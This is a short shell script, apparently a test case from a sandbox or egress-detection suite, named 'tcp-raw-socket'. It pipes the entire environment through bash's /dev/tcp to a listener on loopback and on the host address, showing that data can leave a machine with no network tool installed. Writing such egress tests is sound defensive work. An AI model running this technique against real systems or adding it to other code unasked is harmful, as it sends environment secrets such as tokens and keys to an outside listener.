#!/bin/sh
# tcp-raw-socket (sh): bash's /dev/tcp needs no network tool at all; write
# the environment to the listener on loopback and on the host's address.
. "${TARGETS:-$1}"
for addr in "$T_TCP_HOST" $T_HOST_ADDR; do
	env | timeout 3 bash -c 'cat > "/dev/tcp/$0/$1"' "$addr" "$T_TCP_PORT"
done
